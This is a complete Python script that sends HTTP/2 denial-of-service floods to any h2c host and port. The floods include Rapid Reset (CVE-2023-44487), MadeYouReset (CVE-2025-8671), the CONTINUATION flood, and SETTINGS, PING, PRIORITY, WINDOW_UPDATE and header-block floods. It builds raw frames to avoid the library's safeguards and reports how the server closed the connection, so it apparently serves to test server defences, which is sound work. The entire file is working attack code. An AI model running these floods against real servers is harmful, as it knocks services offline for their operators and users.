"""An HTTP/2 client that floods: one of the attacks named below against an h2c address, then
prints, as one JSON line, how the server ended the connection. Frames are made with hyperframe
and hpack (python3-h2's own layers), not h2's state machine, which would refuse to misbehave.

    h2_adversary.py HOST PORT FLOOD

A flood ends when the server closes or 10 seconds pass; the line says the GOAWAY's error code
(null when none came), its last stream id and how many frames were sent.
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
encoder = Encoder()


def request(method="GET"):
    return encoder.encode(
        [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    )


def headers(stream, method="GET", end_stream=True):
    flags = {"END_HEADERS"} | ({"END_STREAM"} if end_stream else set())
    return HeadersFrame(stream, data=request(method), flags=flags).serialize()


def rapid_reset():
    """CVE-2023-44487: streams opened and cancelled at once, without end."""
    for i in range(2000):
        stream = 2 * i + 1
        yield headers(stream) + RstStreamFrame(stream, error_code=CANCEL).serialize()


def made_you_reset():
    """CVE-2025-8671: frames that make the server reset streams itself (a zero WINDOW_UPDATE
    on an open stream is a stream error), so no RST_STREAM of the client's is counted."""
    for i in range(2000):
        stream = 2 * i + 1
        yield headers(stream, "POST", end_stream=False) + WindowUpdateFrame(
            stream, window_increment=0
        ).serialize()


def settings():
    for _ in range(5000):
        yield SettingsFrame(0, settings={0x3: 100}).serialize()


def pings():
    for i in range(5000):
        yield PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()


def priority():
    for i in range(50000):
        yield PriorityFrame(2 * i + 1, depends_on=0, stream_weight=16).serialize()


def window_updates():
    for _ in range(100000):
        yield WindowUpdateFrame(0, window_increment=1).serialize()


def empty_data():
    yield headers(1, "POST", end_stream=False)
    for _ in range(5000):
        yield DataFrame(1, data=b"").serialize()


def continuations():
    """The CONTINUATION flood of 2024: a header block that never ends."""
    yield HeadersFrame(1, data=request()[:2], flags={"END_STREAM"}).serialize()
    for _ in range(5000):
        yield ContinuationFrame(1, data=b"").serialize()


def header_block():
    """A header block that never ends, in full frames of literal fields."""
    yield HeadersFrame(1, data=request(), flags={"END_STREAM"}).serialize()
    value = b"y" * 16000
    field = b"\x00\x01x" + integer(len(value), 7) + value  # a literal, not indexed
    for _ in range(64):
        yield ContinuationFrame(1, data=field).serialize()


def integer(value, prefix_bits):
    """RFC 7541 §5.1's integer, on a first byte whose other bits are zero."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


FLOODS = {
    f.__name__: f
    for f in [
        rapid_reset,
        made_you_reset,
        settings,
        pings,
        priority,
        window_updates,
        empty_data,
        continuations,
        header_block,
    ]
}


def main():
    host, port, flood = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    sent = 0
    # The flood goes in batches, so the server's GOAWAY is seen while it goes on.
    batch = b""
    try:
        for frame in FLOODS[flood]():
            batch += frame
            sent += 1
            if len(batch) >= 16384:
                sock.sendall(batch)
                batch = b""
        sock.sendall(batch)
    except OSError:
        pass  # the server closed: its GOAWAY is in what is read below
    goaway = read_goaway(sock)
    print(json.dumps({"flood": flood, "sent": sent, **goaway}))


def read_goaway(sock):
    """Reads frames until a GOAWAY, the close or 10 s; what the GOAWAY said."""
    deadline = time.monotonic() + 10
    buf = b""
    while time.monotonic() < deadline:
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9 : 9 + length]))
            buf = buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                return {"goaway": frame.error_code, "last_stream": frame.last_stream_id}
        try:
            more = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not more:
            break
        buf += more
    return {"goaway": None, "last_stream": None}


if __name__ == "__main__":
    main()
